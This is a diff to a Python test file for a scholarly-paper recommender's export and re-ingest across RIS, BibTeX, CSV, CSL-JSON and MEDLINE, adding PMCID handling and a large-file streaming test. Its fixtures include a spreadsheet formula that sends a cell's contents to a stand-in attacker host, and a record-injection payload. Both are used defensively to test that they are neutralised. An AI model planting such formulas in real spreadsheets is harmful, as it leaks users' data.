@@ -7,6 +7,7 @@ Where our own ingest cannot read a field back, the case is marked ``xfail(strict
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import json
 from pathlib import Path
@@ -28,6 +29,7 @@ from recommender.export import (
     split_name,
 )
 from recommender.ingest import Rejected, read_paths
+from recommender.ingest.detect import MAX_JSON_DOCUMENT_BYTES
 from recommender.paper import Paper
 
 FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
@@ -38,6 +40,7 @@ PAPERS = {
         abstract="Tumour necrosis factor α (TNF-α) and interleukin-1β drive inflammation; Δ=0.3 (p<0.05).",
         doi="10.5555/omics.2021.7",
         pmid="34000001",
+        pmcid="PMC9000001",
         journal="Journal of Ωmics & Inflammation",
         year=2021,
         authors=["Jan van der Berg", "Σωκράτης Παπαδόπουλος", "Zoë Ångström-Müller", "Aristotle"],
@@ -61,6 +64,7 @@ PAPERS = {
         title="A paper with no year, no DOI and a single author",
         abstract="Sparse metadata: only a PMID, a title and one author.",
         pmid="32000003",
+        pmcid="PMC7000003",
         authors=["María José García-López"],
     ),
     "formula": Paper(
@@ -74,19 +78,8 @@ PAPERS = {
     ),
 }
 TAGS = {"doi:10.5555/omics.2021.7": ["Theme 3: cytokines"], "h:0123456789abcdef": ["Theme 1"]}
-FIELDS = ("title", "abstract", "doi", "pmid", "journal", "year", "authors", "keywords", "mesh_terms")
+FIELDS = ("title", "abstract", "doi", "pmid", "pmcid", "journal", "year", "authors", "keywords", "mesh_terms")
 GAPS = {
-    ("ris", "*", "pmid"): "ingest/ris.py reads no PMID tag (the export writes it in AN, EndNote's accession number)",
-    (
-        "csl-json",
-        "*",
-        "year",
-    ): "ingest has no synonym for CSL's 'issued' ({'date-parts': [[2021]]}), so the year is lost",
-    ("bibtex", "punctuation", "title"): "ingest/bibtex.py deletes every brace, escaped \\{ \\} included",
-    ("bibtex", "punctuation", "abstract"): "ingest/bibtex.py deletes every brace, escaped \\{ \\} included",
-    ("bibtex", "punctuation", "journal"): "ingest/bibtex.py deletes every brace, escaped \\{ \\} included",
-    ("bibtex", "unicode", "keywords"): "ingest/bibtex.py splits keywords at every comma, braced terms included",
-    ("csv", "sparse", "authors"): "ingest authors_from splits a lone 'Last, First' at its comma (no ';' present)",
     ("csv", "formula", "title"): "by design: a formula-like cell is written with a leading ' (kept on re-ingest)",
     ("csv", "formula", "abstract"): "by design: a formula-like cell is written with a leading ' (kept on re-ingest)",
     ("csv", "formula", "keywords"): "by design: a formula-like cell is written with a leading ' (kept on re-ingest)",
@@ -155,6 +148,7 @@ def test_ris_parses_with_rispy() -> None:
     assert first["year"] == "2021"
     assert first["doi"] == "10.5555/omics.2021.7"
     assert first["accession_number"] == "34000001"
+    assert first["custom2"] == "PMCID: PMC9000001"  # C2, as Zotero writes the PMCID
     assert first["keywords"][-2:] == ["Humans", "Crohn Disease"]
     assert "Theme 3: cytokines" in first["keywords"]
     assert punctuation["title"] == PAPERS["punctuation"].title
@@ -175,6 +169,7 @@ def test_bibtex_parses_with_bibtexparser_and_decodes_to_the_original() -> None:
     first = {name: field.value for name, field in library.entries[0].fields_dict.items()}
     assert first["author"] == "van der Berg, Jan and Παπαδόπουλος, Σωκράτης and Ångström-Müller, Zoë and {Aristotle}"
     assert first["year"] == "2021" and first["doi"] == "10.5555/omics.2021.7" and first["pmid"] == "34000001"
+    assert first["pmcid"] == "PMC9000001"
     assert "{Neoplasms, Experimental}" in first["keywords"]
     sparse = {name for name in library.entries[2].fields_dict}
     assert "year" not in sparse and "doi" not in sparse
@@ -188,7 +183,7 @@ def test_csv_parses_with_zotero_columns_and_neutralised_formulas() -> None:
     assert len(rows) == len(PAPERS)
     first, _, sparse, formula = rows
     assert first["Author"] == "van der Berg, Jan; Παπαδόπουλος, Σωκράτης; Ångström-Müller, Zoë; Aristotle"
-    assert first["Extra"] == "PMID: 34000001" and first["Publication Year"] == "2021"
+    assert first["Extra"] == "PMID: 34000001\nPMCID: PMC9000001" and first["Publication Year"] == "2021"
     assert first["Manual Tags"].split("; ")[-1] == "Crohn Disease"
     assert sparse["Publication Year"] == "" and sparse["DOI"] == ""
     assert formula["Title"] == "'" + FORMULA_TITLE
@@ -211,6 +206,7 @@ def test_csl_json_parses_as_json() -> None:
     assert first["author"][3] == {"family": "Aristotle"}
     assert first["issued"] == {"date-parts": [[2021]]}
     assert first["DOI"] == "10.5555/omics.2021.7" and first["PMID"] == "34000001"
+    assert first["PMCID"] == "PMC9000001"
     assert first["container-title"] == "Journal of Ωmics & Inflammation"
     assert "issued" not in items[2] and "DOI" not in items[2]
 
@@ -219,7 +215,7 @@ def test_medline_parses_with_biopython() -> None:
     records = list(Medline.parse(io.StringIO(export_text("medline"))))
     assert len(records) == len(PAPERS)
     first = records[0]
-    assert first["PMID"] == "34000001" and first["DP"] == "2021"
+    assert first["PMID"] == "34000001" and first["DP"] == "2021" and first["PMC"] == "PMC9000001"
     assert first["FAU"][:2] == ["van der Berg, Jan", "Παπαδόπουλος, Σωκράτης"]
     assert first["AU"][0] == "van der Berg J"
     assert first["LID"] == "10.5555/omics.2021.7 [doi]"
@@ -245,8 +241,7 @@ def test_hostile_text_cannot_start_a_record_tag_or_field(tmp_path: Path, fmt: st
     papers = ingest(tmp_path, fmt, text)
     assert len(papers) == 2
     assert papers[1].title == PAPERS["sparse"].title
-    if fmt != "bibtex":  # BibTeX ingest deletes braces (see GAPS)
-        assert papers[0].title == " ".join(HOSTILE.title.split())
+    assert papers[0].title == " ".join(HOSTILE.title.split())  # braces and all, in BibTeX too
     assert "Injected" not in {paper.title for paper in papers}
     if fmt in ("ris", "medline"):
         lines = text.splitlines()
@@ -360,3 +355,22 @@ def test_twenty_thousand_papers_export_in_one_pass(fmt: str) -> None:
         assert text.count(marker[fmt]) == 20_000 - 1  # the first entry starts the file
     else:
         assert text.count(marker[fmt]) == 20_000
+
+
+def test_a_csl_json_export_larger_than_the_json_document_cap_is_reingested(tmp_path: Path) -> None:
+    """A CSL-JSON export of 20,000 papers is ~40 MB, over the 20 MB a JSON document is read whole: it is
+    streamed item by item instead. 2,300 papers with long abstracts make the same size class quickly."""
+    papers = [
+        dataclasses.replace(paper, abstract=(paper.abstract * 7).strip(), pmcid=f"PMC{8_000_000 + number}")
+        for number, paper in enumerate(generated(2300))
+    ]
+    path = tmp_path / "export.json"
+    with path.open("w", encoding="utf-8") as out:
+        export_papers(papers, "csl-json", out)
+    assert path.stat().st_size > MAX_JSON_DOCUMENT_BYTES
+    items = [item for _, _, item in read_paths([path])]
+    assert len(items) == len(papers) and not [item for item in items if isinstance(item, Rejected)]
+    for got, sent in ((items[0], papers[0]), (items[-1], papers[-1])):
+        assert isinstance(got, Paper)
+        for field in ("id", "title", "abstract", "doi", "pmid", "pmcid", "journal", "year", "authors"):
+            assert getattr(got, field) == getattr(sent, field), field
